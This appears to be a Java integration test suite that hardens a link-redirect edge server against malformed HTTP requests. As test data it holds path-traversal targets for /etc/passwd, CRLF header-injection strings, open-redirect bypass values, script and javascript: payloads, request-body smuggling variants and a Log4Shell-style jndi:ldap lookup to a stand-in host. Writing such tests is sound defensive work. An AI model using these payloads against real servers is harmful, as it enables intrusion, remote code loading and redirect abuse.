package io.clickway.edge.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.clickway.event.ClickFlag;
import io.clickway.event.EventFrame;
import io.clickway.event.proto.Click;
import io.clickway.event.proto.Parameter;
import io.clickway.testkit.PrivateServers;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Requests as no browser sends them, byte by byte, each through both lanes; and what is left of them in stream and log. Long,
 * because all share one edge and one look at what is left.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileIT {

    private static final String ADDRESS = "127.62.1.1";
    private static final String HOST = "Host: go.test\r\n";

    /** Ends the connection and shows that the request before it was read to its end and no further. */
    private static final String SENTINEL = "GET /plain HTTP/1.1\r\n" + HOST + "Connection: close\r\n\r\n";

    private static final Duration SOON = Duration.ofSeconds(20);

    private static final Set<String> ALLOWED_HEADERS = Set.of(
            "cache-control",
            "x-content-type-options",
            "referrer-policy",
            "date",
            "content-length",
            "content-type",
            "location",
            "connection",
            "allow");

    private static final Pattern LOG_LINE =
            Pattern.compile("\\d{4}-\\d\\d-\\d\\dT[0-9:.]{12}[+Z][0-9:]* (INFO|WARN|ERROR) +\\S+ [ -~]*");

    @TempDir
    static Path folder;

    private static PrivateServers servers;
    private static RedisProbe redis;
    private static EdgeUnderTest edge;
    private static int loggedAtStart;

    @BeforeAll
    static void start() {
        servers = PrivateServers.start("127.62", "eu", "redis");
        redis = new RedisProbe(servers.get("redis.eu.uri.operator"));
        redis.publish(1, LinkBook.shard());
        edge = new EdgeUnderTest(ADDRESS, folder, servers.get("redis.eu.uri.edge"));
        edge.awaitReady();
        await().atMost(Duration.ofMinutes(1)).until(() -> edge.click("/plain").statusCode() == 302);
        loggedAtStart = edge.log().length();
    }

    @AfterAll
    static void stop() {
        if (edge != null) {
            edge.close();
        }
        if (redis != null) {
            redis.close();
        }
        if (servers != null) {
            servers.close();
        }
    }

    /**
     * @param head request line and headers, each with its line end, without the empty line
     * @param statuses what may be answered; 0 for nothing
     */
    record Hostile(String name, String head, String body, Set<Integer> statuses) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Hostile hostile(String name, String head, Integer... statuses) {
        return new Hostile(name, head, "", Set.of(statuses));
    }

    private static Hostile post(String name, String headers, String body, Integer... statuses) {
        return new Hostile(name, "POST /demo HTTP/1.1\r\n" + HOST + headers, body, Set.of(statuses));
    }

    private static String get(String target, String... headers) {
        return "GET " + target + " HTTP/1.1\r\n" + HOST + String.join("", headers);
    }

    static Stream<Hostile> requests() {
        return Stream.of(targets(), parameters(), headers(), methods(), bodies())
                .flatMap(all -> all);
    }

    private static Stream<Hostile> targets() {
        return Stream.of(
                hostile("percent-encoded slug", get("/%64emo"), 302),
                hostile("broken percent in the slug", get("/%zz%"), 404),
                hostile("NUL in the slug", get("/%00"), 404),
                hostile("overlong UTF-8 in the slug", get("/%c0%ae%c0%ae"), 404),
                hostile("raw bytes in the slug", get("/d\u00e9mo\u00ff"), 404),
                hostile("dots in the path", get("/../../etc/passwd"), 404),
                hostile("encoded dots in the path", get("/%2e%2e/%2e%2e/etc/passwd"), 404),
                hostile("double slash", get("//evil.example/demo"), 404),
                hostile("backslash", get("/\\evil.example"), 404),
                hostile("semicolon", get("/demo;x=y"), 404),
                hostile("slug and a slash", get("/demo/"), 404),
                hostile("script in the slug", get("/<script>alert(1)</script>"), 404),
                hostile("unknown slug", get("/nosuchlink"), 404),
                hostile("unknown slug that asks for a URL", get("/nosuchlink?url=https://evil.example"), 404),
                hostile("reserved slug", get("/.well-known/security.txt"), 404),
                hostile("management's path on the visitors' port", get("/q/metrics"), 404),
                hostile("health's path on the visitors' port", get("/q/health"), 404),
                hostile("line ends and colours in the slug", get("/%0d%0a%1b[31mevil"), 404),
                hostile("fragment in the target", get("/demo#https://evil.example"), 302),
                hostile("target without a slash", get("demo"), 404, 400),
                hostile("target of a question mark", get("?url=https://evil.example"), 200, 404, 400),
                hostile("absolute-form target", get("http://go.test/demo"), 302),
                hostile("absolute-form target of another site", get("http://evil.example/nope"), 404),
                hostile("absolute-form target with another Host", get("http://evil.example/demo"), 302),
                hostile("absolute-form target with userinfo", get("http://go.test@evil.example/demo"), 302),
                hostile("two blanks", "GET  /demo HTTP/1.1\r\n" + HOST, 302, 400, 404),
                hostile("blank in the target", get("/demo?sub1=a b"), 302, 400),
                hostile("tab in the target", get("/demo?sub1=a\tb"), 302, 400),
                hostile("NUL in the target", get("/demo?sub1=a\u0000b"), 302, 400),
                hostile("carriage return in the target", get("/demo?sub1=a\rSet-Cookie: x=1"), 400));
    }

    private static Stream<Hostile> parameters() {
        var many = IntStream.range(0, 10_000).mapToObj(i -> "&").collect(Collectors.joining());
        var named = IntStream.range(0, 1_500).mapToObj(i -> "p" + i + "=" + i).collect(Collectors.joining("&"));
        return Stream.of(
                hostile("CRLF in sub1", get("/demo?sub1=%0d%0aSet-Cookie:x=1"), 302),
                hostile("CRLF in a parameter that is passed on", get("/pass?a=%0d%0aSet-Cookie:x=1&%0d%0aX:y=1"), 302),
                hostile("LF and tab in sub1", get("/demo?sub1=%0a%09x"), 302),
                hostile("line of 16,000 bytes", get("/demo?sub1=" + "a".repeat(16_000 - 25)), 302),
                hostile("line of 16,600 bytes", get("/demo?sub1=" + "a".repeat(16_600 - 25)), 414),
                hostile("line of 1 MB", get("/demo?sub1=" + "a".repeat(1_000_000)), 414, 0),
                hostile("10,000 parameters without a name", get("/demo?" + many), 302),
                hostile("1,500 parameters", get("/demo?" + named), 302),
                hostile("what java.net.URI can't read", get("/demo?k={keyword}|a^b`\"<>\\[]"), 302),
                hostile("bad percent in the query", get("/demo?sub1=%&sub2=%g1&a=%e"), 302),
                hostile("NUL and surrogates in the query", get("/demo?sub1=%00%ed%a0%80&%00=%ed%bf%bf"), 302),
                hostile("overlong and cut UTF-8 in the query", get("/demo?sub1=%c0%af%f4%90%80%80%e2%82&x=%ff"), 302),
                hostile("raw bytes in the query", get("/demo?sub1=\u00ff\u00fe"), 302),
                hostile("other URL as a parameter", get("/demo?url=https://evil.example"), 302),
                hostile("other URL on a link that passes parameters", get("/pass?url=https://evil.example#@x"), 302),
                hostile("odd cost", get("/demo?cost=1e999&currency=%00&cost=NaN"), 302),
                hostile("huge cost", get("/demo?cost=" + "9".repeat(400) + "&currency=EUR"), 302),
                hostile("macro in a value", get("/demo?sub1={click_id}{sub2}&sub2={sub1}"), 302));
    }

    private static Stream<Hostile> headers() {
        var many = IntStream.range(0, 300).mapToObj(i -> "X-" + i + ": y\r\n").collect(Collectors.joining());
        return Stream.of(
                hostile("no User-Agent", get("/demo"), 302),
                hostile("User-Agent of raw bytes", get("/demo", "User-Agent: \u00ff\u00fe?{}\u00c3\u0028\r\n"), 302),
                hostile("control byte in the User-Agent", get("/demo", "User-Agent: a\u0001b\r\n"), 302, 400),
                hostile("NUL in the User-Agent", get("/demo", "User-Agent: a\u0000b\r\n"), 400),
                hostile("carriage return in the User-Agent", get("/demo", "User-Agent: a\rX: b\r\n"), 400),
                hostile("colours in the User-Agent", get("/demo", "User-Agent: \u001b[31mevil\r\n"), 302, 400),
                hostile(
                        "line ends and colours in the referrer",
                        get("/demo", "Referer: https://a.example/%0a%0d%1b[2J\r\n"),
                        302),
                hostile("User-Agent of 20 kB", get("/demo", "User-Agent: " + "u".repeat(20_000) + "\r\n"), 302),
                hostile("referrer of 20 kB", get("/demo", "Referer: https://" + "r".repeat(20_000) + "\r\n"), 302),
                hostile("language of 10 kB", get("/demo", "Accept-Language: " + "e-".repeat(5_000) + "\r\n"), 302),
                hostile("cookie of 10 kB", get("/cookie", "Cookie: " + "cw_v=;".repeat(1_700) + "\r\n"), 302),
                hostile("300 headers", get("/demo", many), 302),
                hostile("headers of 40 kB", get("/demo", "X: " + "u".repeat(40_000) + "\r\n"), 431),
                hostile("header without a name", get("/demo", ": x\r\n"), 400),
                hostile("header without a colon", get("/demo", "nonsense\r\n"), 302, 400),
                hostile("header name in raw bytes", get("/demo", "X\u00e9: y\r\n"), 400),
                hostile("no Host", "GET /demo HTTP/1.1\r\n", 400),
                hostile("two Hosts", get("/demo", "Host: other.test\r\n"), 400),
                hostile("the same Host twice", get("/demo", HOST), 400),
                hostile("odd Host", "GET /demo HTTP/1.1\r\nHost: <b>\u00ff:99999999\r\n", 302, 400),
                hostile("empty Host", "GET /demo HTTP/1.1\r\nHost:\r\n", 302, 400),
                hostile("Host of 5 kB", "GET /demo HTTP/1.1\r\nHost: " + "h".repeat(5000) + "\r\n", 302, 400),
                hostile(
                        "forwarded junk",
                        get("/demo", "X-Forwarded-For: a,b,,\u00ff\r\nForwarded: for=1.1.1.1\r\n"),
                        302),
                hostile("upgrade to HTTP/2", get("/demo", "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"), 302),
                hostile("Expect of nonsense", get("/demo", "Expect: nonsense\r\n"), 302, 400, 417));
    }

    private static Stream<Hostile> methods() {
        return Stream.of(
                hostile("asterisk", "OPTIONS * HTTP/1.1\r\n" + HOST, 400, 405),
                hostile("OPTIONS", "OPTIONS /demo HTTP/1.1\r\n" + HOST, 405),
                hostile("PUT", "PUT /demo HTTP/1.1\r\n" + HOST + "Content-Length: 0\r\n", 405),
                hostile("DELETE", "DELETE /demo HTTP/1.1\r\n" + HOST, 405),
                hostile("TRACE", "TRACE /demo HTTP/1.1\r\n" + HOST + "X: evil.example\r\n", 405),
                hostile("CONNECT", "CONNECT go.test:443 HTTP/1.1\r\n" + HOST, 405, 400, 404),
                hostile("unknown method", "FROB /demo HTTP/1.1\r\n" + HOST, 405),
                hostile("lower-case method", "get /demo HTTP/1.1\r\n" + HOST, 405),
                hostile("OPTIONS of a page", "OPTIONS / HTTP/1.1\r\n" + HOST, 405),
                hostile("DELETE of a page", "DELETE /robots.txt HTTP/1.1\r\n" + HOST, 405));
    }

    private static Stream<Hostile> bodies() {
        return Stream.of(
                post("body", "Content-Length: 5\r\n", "hello", 302),
                post("chunks", "Transfer-Encoding: chunked\r\n", "5\r\nhello\r\n0\r\n\r\n", 302),
                post("body that never comes", "Content-Length: 1000000000\r\n", "abc", 302),
                post("length beyond any number", "Content-Length: 99999999999999999999999\r\n", "abc", 302, 400),
                post("endless chunks", "Transfer-Encoding: chunked\r\n", "ffff\r\nabc", 302),
                post("chunk of nonsense", "Transfer-Encoding: chunked\r\n", "zz\r\nabc\r\n0\r\n\r\n", 302, 400, 0),
                post("body of 10 MB", "Content-Length: 10000000\r\n", "x".repeat(200_000), 302),
                post("negative length", "Content-Length: -5\r\n", "", 400),
                post("length of nonsense", "Content-Length: abc\r\n", "", 400),
                post("length with a plus", "Content-Length: +1\r\n", "a", 400),
                post("two lengths", "Content-Length: 1\r\nContent-Length: 2\r\n", "ab", 400),
                post("two lengths in one", "Content-Length: 1, 2\r\n", "ab", 400),
                new Hostile(
                        "body for a page",
                        "POST / HTTP/1.1\r\n" + HOST + "Content-Length: 1000000000\r\n",
                        "x".repeat(100_000),
                        Set.of(405)),
                new Hostile(
                        "body behind GET of a page",
                        "GET / HTTP/1.1\r\n" + HOST + "Content-Length: 1000000000\r\n",
                        "x".repeat(100_000),
                        Set.of(200, 400)),
                new Hostile(
                        "endless body behind GET of a page",
                        "GET /robots.txt HTTP/1.1\r\n" + HOST + "Transfer-Encoding: chunked\r\n",
                        "ffff\r\nabc",
                        Set.of(200, 400)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("requests")
    void getsOneCleanAnswerBeforeTheConnectionEnds(Hostile hostile) throws Exception {
        long begun = System.nanoTime();
        var answer = RawHttp.send(ADDRESS, hostile.head() + "Connection: close\r\n\r\n" + hostile.body());

        assertThat(answer.isEnded()).as("ended").isTrue();
        assertThat(Duration.ofNanos(System.nanoTime() - begun)).isLessThan(SOON);
        var responses = answer.responses(false);
        assertThat(responses).as(answer.raw()).hasSizeLessThanOrEqualTo(1);
        int status = responses.isEmpty() ? 0 : responses.getFirst().status();
        assertThat(status).as(answer.raw()).isIn(hostile.statuses());
        responses.forEach(HostileIT::assertClean);
        assertThat(edge.isAlive()).isTrue();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("requests")
    void getsOneCleanAnswerAmidOthers(Hostile hostile) throws Exception {
        var answer = RawHttp.send(ADDRESS, hostile.head() + "\r\n" + hostile.body() + SENTINEL);

        assertThat(answer.isEnded()).as("ended").isTrue();
        var responses = answer.responses(false);
        assertThat(responses).as(answer.raw()).hasSizeLessThanOrEqualTo(2);
        int status = responses.isEmpty() ? 0 : responses.getFirst().status();
        assertThat(status).as(answer.raw()).isIn(hostile.statuses());
        responses.forEach(HostileIT::assertClean);
        if (responses.size() == 2) {
            assertThat(responses.get(1).header("location")).isEqualTo("https://example.com/plain");
        }
        assertThat(edge.isAlive()).isTrue();
    }

    private static void assertClean(RawHttp.Response response) {
        assertThat(response.headers())
                .extracting(RawHttp.Header::name)
                .doesNotHaveDuplicates()
                .isSubsetOf(cookieToo(response));
        assertThat(response.header("x-content-type-options")).isEqualTo("nosniff");
        assertThat(response.header("referrer-policy")).isEqualTo("no-referrer");
        assertThat(response.header("cache-control")).isNotEmpty();
        assertThat(response.header("date")).endsWith(" GMT");
        assertThat(response.header("location").isEmpty()).isEqualTo(response.status() != 302);
        if (response.status() == 302) {
            assertOwnDestination(response.header("location"));
            assertThat(response.header("cache-control")).isEqualTo("no-store");
            assertThat(response.body()).isEmpty();
        } else {
            assertThat(response.body())
                    .isIn(
                            "",
                            "no such link\n",
                            "bad request\n",
                            "method not allowed\n",
                            "This host redirects links.\n",
                            "User-agent: *\nDisallow: /\n");
        }
    }

    private static Set<String> cookieToo(RawHttp.Response response) {
        if (!response.header("location").equals("https://example.com/cookie")) {
            return ALLOWED_HEADERS;
        }
        assertThat(response.header("set-cookie"))
                .matches("cw_v=[0-9a-z]{26}; Max-Age=34560000; Path=/; HttpOnly; SameSite=Lax; Secure");
        return Stream.concat(ALLOWED_HEADERS.stream(), Stream.of("set-cookie")).collect(Collectors.toSet());
    }

    /** As any reader of URLs finds it: RFC 3986's and, for there is nothing the two take differently, the browsers'. */
    private static void assertOwnDestination(String location) {
        assertThat(location).startsWith("https://example.com/").matches("[A-Za-z0-9._~:/?#&=%-]*");
        var uri = URI.create(location);
        assertThat(uri.getRawAuthority()).isEqualTo("example.com");
        assertThat(uri.getHost()).isEqualTo("example.com");
    }

    static Stream<String> bypasses() {
        return Stream.of(
                "//evil.example",
                "/\\evil.example",
                "https:evil.example",
                "https:\\\\evil.example",
                "https://example.com@evil.example",
                "https://example.com.evil.example",
                "https://evil.example#@example.com",
                "%2f%2fevil.example",
                "%252f%252fevil.example",
                "ht\ttps://evil.example",
                "ht\ntps://evil.example",
                "\r\nLocation: https://evil.example",
                "https://ex\u0430mple.com",
                "https://evil.example.",
                "HTTPS://EVIL.EXAMPLE",
                "https://evil.example:8443",
                "https://user:password@evil.example",
                "javascript:alert(1)",
                "data:text/html,<script>alert(1)</script>",
                "https://[::1]/",
                "https://2130706433/",
                "https://0x7f.1/",
                "../../evil.example",
                "..",
                ".",
                "%2e%2e",
                "@evil.example",
                "?a=b#c",
                "&q=evil&z=2",
                "\u0000",
                "\ud83d\ude00\u2028\uffff");
    }

    @ParameterizedTest
    @MethodSource("bypasses")
    void keepsEveryValueInTheMacrosOwnPlace(String value) throws Exception {
        for (var lane : List.of("", "Upgrade: nothing\r\n")) {
            var path = locate("/path?sub1=", value, lane);
            assertThat(path).matches("https://example\\.com/p/[A-Za-z0-9._~%-]*/x");
            assertThat(path).doesNotContainIgnoringCase("/./").doesNotContain("/../");
            assertThat(locate("/query?sub1=", value, lane)).matches("https://example\\.com/\\?q=[A-Za-z0-9._~%-]*&z=1");
            assertThat(locate("/fragment?sub1=", value, lane)).matches("https://example\\.com/#[A-Za-z0-9._~%-]*");
            assertThat(locate("/pass?own=2&x=", value, lane))
                    .matches("https://example\\.com/land\\?own=1&x=[A-Za-z0-9._~%-]*#f");
        }
    }

    private static String locate(String target, String value, String header) throws Exception {
        var encoded = URLEncoder.encode(value, StandardCharsets.UTF_8);
        var answer = RawHttp.send(ADDRESS, get(target + encoded, header, "Connection: close\r\n\r\n"));
        assertClean(answer.only());
        return answer.only().header("location");
    }

    @Test
    void keepsWhatTheBoundsAllowAndFlagsTheRest() throws Exception {
        var seventy = IntStream.range(0, 70).mapToObj(i -> "&p" + i + "=v" + i).collect(Collectors.joining());
        var target = "/demo?sub1=bounds&sub1=second&sub2=" + "s".repeat(300) + "&p0=first" + seventy + "&z="
                + "z".repeat(5_000);
        var request = get(
                target, "User-Agent: " + "u".repeat(600) + "\r\n", "Referer: " + "r".repeat(3_000) + "\r\n", "\r\n");
        RawHttp.send(ADDRESS, request + SENTINEL);

        var click = clickOf("bounds");
        assertThat(click.getTarget()).isEqualTo(target.substring(0, 4096));
        assertThat(click.getUserAgent()).isEqualTo("u".repeat(512));
        assertThat(click.getReferrer()).isEqualTo("r".repeat(2048));
        assertThat(click.getSubs(1)).isEqualTo("s".repeat(256));
        assertThat(click.getParametersCount()).isEqualTo(64);
        assertThat(click.getParameters(0).getValue()).isEqualTo("first");
        assertThat(ClickFlag.of(click.getFlags()))
                .contains(
                        ClickFlag.TARGET_CUT,
                        ClickFlag.USER_AGENT_CUT,
                        ClickFlag.REFERRER_CUT,
                        ClickFlag.PARAMETER_CUT,
                        ClickFlag.PARAMETERS_DROPPED,
                        ClickFlag.PARAMETER_REPEATED);
    }

    private static Click clickOf(String sub1) {
        return await().atMost(Duration.ofMinutes(1))
                .until(
                        () -> clicks().filter(click -> click.getSubsCount() > 0
                                        && click.getSubs(0).equals(sub1))
                                .findFirst(),
                        Optional::isPresent)
                .orElseThrow();
    }

    private static Stream<Click> clicks() {
        return redis.eventsOnce().stream()
                .filter(found -> found.event().hasClick())
                .map(found -> found.event().getClick());
    }

    static Stream<String> evilAgents() {
        return Stream.of(
                "Mozilla/5.0 (" + "(".repeat(500),
                "Mozilla/5.0 " + "a/".repeat(250),
                "Mozilla/5.0 (Linux; Android " + "1.".repeat(240) + ")",
                "Opera/" + "9".repeat(500),
                "Mozilla/5.0 (" + "; ".repeat(250) + ")",
                " \t".repeat(250) + "x",
                "Chrome/" + "1".repeat(19) + " Version/" + "9".repeat(450),
                "SmartWatch(" + "-".repeat(480) + ")",
                "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/" + "537.".repeat(110) + " Chrome/-1",
                "bot".repeat(170),
                "%n%s%x%1$s${jndi:ldap://evil.example/a}#{7*7}'\"--<!--",
                "Mozilla/5.0 (iPhone; CPU iPhone OS " + "_".repeat(470));
    }

    @ParameterizedTest
    @MethodSource("evilAgents")
    void answersFastWhateverTheUserAgent(String agent) throws Exception {
        var request = get("/demo", "User-Agent: " + agent + "\r\n", "\r\n");
        long begun = System.nanoTime();
        var answer = RawHttp.send(ADDRESS, request.repeat(50) + SENTINEL);

        assertThat(answer.responses(false)).hasSize(51).allMatch(response -> response.status() == 302);
        assertThat(Duration.ofNanos(System.nanoTime() - begun)).isLessThan(SOON);
    }

    @Test
    @Order(Integer.MAX_VALUE - 1)
    void keepsEveryClickItSaysItKeptAndEachCanBeStored() {
        await().atMost(Duration.ofMinutes(1))
                .untilAsserted(() -> assertThat(clicks()).hasSize((int) edge.metric("edge_clicks_accepted_total")));
        var clicks = clicks().toList();
        for (var found : redis.events()) {
            assertThat(found.event().getSerializedSize()).isLessThan(EventFrame.MAX_EVENT_BYTES);
        }
        for (var click : clicks) {
            assertStorable(click);
        }
    }

    private static void assertStorable(Click click) {
        var texts = new ArrayList<String>(click.getSubsList());
        for (var parameter : click.getParametersList()) {
            texts.add(parameter.getName());
            texts.add(parameter.getValue());
        }
        assertThat(texts).allMatch(text -> text.length() <= 256);
        assertThat(click.getParametersList()).extracting(Parameter::getName).doesNotHaveDuplicates();
        assertThat(click.getParametersCount()).isLessThanOrEqualTo(64);
        assertThat(click.getHost()).hasSizeLessThanOrEqualTo(255);
        assertThat(click.getTarget()).hasSizeLessThanOrEqualTo(4096);
        assertThat(click.getUserAgent()).hasSizeLessThanOrEqualTo(512);
        assertThat(click.getReferrer()).hasSizeLessThanOrEqualTo(2048);
        assertThat(click.getLanguage()).hasSizeLessThanOrEqualTo(16);
        texts.addAll(List.of(click.getHost(), click.getTarget(), click.getUserAgent(), click.getReferrer()));
        texts.addAll(List.of(click.getLanguage(), click.getOs(), click.getBrowser(), click.getDestination()));
        texts.addAll(List.of(click.getOsVersion(), click.getBrowserVersion(), click.getCurrency()));
        assertThat(texts).allMatch(HostileIT::isUnicodeWithoutNul);
    }

    private static boolean isUnicodeWithoutNul(String text) {
        return text.indexOf('\0') < 0 && StandardCharsets.UTF_8.newEncoder().canEncode(text);
    }

    @Test
    @Order(Integer.MAX_VALUE)
    void logsNothingOfWhatVisitorsSentAndNoTraces() {
        var log = edge.log().substring(loggedAtStart);

        assertThat(log.lines()).allMatch(line -> LOG_LINE.matcher(line).matches());
        assertThat(log.lines().count()).as(log).isLessThan(5);
        assertThat(log).doesNotContain("evil", "sub1", "demo", "Mozilla", "127.62", "example", "\u001b");
    }
}
